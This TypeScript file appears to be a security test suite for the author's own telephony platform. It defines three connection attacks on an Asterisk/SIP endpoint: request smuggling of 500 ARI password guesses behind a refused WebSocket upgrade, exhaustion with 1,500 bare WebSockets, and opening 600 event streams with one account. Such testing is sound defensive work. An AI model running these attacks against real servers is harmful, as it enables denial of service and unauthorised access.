import { endpoints } from '@alo/contracts';
import { connect } from 'node:net';
import { once } from 'node:events';
import type { Attack, Target } from './attack.ts';

const upgrade = ({ host }: URL, version: string) =>
  [
    'GET /sip HTTP/1.1',
    `Host: ${host}`,
    `Origin: http://${host}`,
    'Upgrade: websocket',
    'Connection: Upgrade',
    'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==',
    'Sec-WebSocket-Protocol: sip',
    `Sec-WebSocket-Version: ${version}`,
    '',
    '',
  ].join('\r\n');

/** Opens a connection to the server and sends a request as it is. */
async function open(target: Target, text: string) {
  const url = new URL(target.url);
  const socket = connect(Number(url.port), url.hostname);
  socket.on('error', () => socket.destroy());
  await once(socket, 'connect');
  socket.write(text);
  return socket;
}

/** Opens bare WebSockets until they no longer come through; gives how many did. */
async function bareSockets(target: Target): Promise<string> {
  const sockets = await Promise.all(
    Array.from({ length: 1500 }, () => open(target, upgrade(new URL(target.url), '13'))),
  );
  const answers = await Promise.all(
    sockets.map(async (socket) => {
      const [first] = await Promise.race([once(socket, 'data'), once(socket, 'close')]);
      return Buffer.isBuffer(first) ? (/^HTTP\/1.1 (\d{3})/.exec(first.toString())?.[1] ?? '') : '';
    }),
  );
  for (const socket of sockets) socket.destroy();
  return `${answers.filter((status) => status === '101').length} of 1,500 open`;
}

async function eventStreams({ url, admin }: Target): Promise<string> {
  const stop = new AbortController();
  let taken = 0;
  for (let at = 0; at < 600; at += 1) {
    const { status, body } = await admin.call(endpoints.createStreamTicket);
    if (status !== 200) continue;
    const answer = await fetch(`${url}/api/platform/events?ticket=${body.ticket}`, {
      signal: stop.signal,
    });
    if (answer.status === 200) taken += 1;
  }
  stop.abort();
  return `${taken} of 600 open`;
}

/** Requests that Asterisk's own HTTP server would answer, sent behind an upgrade that it refuses. */
async function smuggle(target: Target): Promise<string> {
  const url = new URL(target.url);
  const socket = await open(target, upgrade(url, '99'));
  const guess = `GET /ari/asterisk/info HTTP/1.1\r\nHost: ${url.host}\r\nAuthorization: Basic YTpi\r\n\r\n`;
  let text = '';
  // It is closed while there is still something to write.
  socket.on('error', () => undefined);
  socket.on('data', (chunk: Buffer) => (text += chunk.toString('latin1')));
  for (let at = 0; at < 500 && socket.writable; at += 1) socket.write(guess);
  socket.end();
  await once(socket, 'close');
  const answers = text.match(/HTTP\/1\.1 \d{3}/g) ?? [];
  return `${answers[0]?.slice(-3) ?? 'closed'}, ${Math.max(0, answers.length - 1)} answers behind it`;
}

/** Connections that last, and what is said on them. */
export const connectionAttacks: readonly Attack[] = [
  {
    name: '500 guesses of the ARI password behind a refused upgrade at /sip',
    before: '500 answers of Asterisk in 0.4 s',
    run: smuggle,
  },
  { name: '1,500 bare WebSockets at /sip', before: '1,500 taken', run: bareSockets },
  { name: '600 event streams of one person', before: '600 taken', run: eventStreams },
];
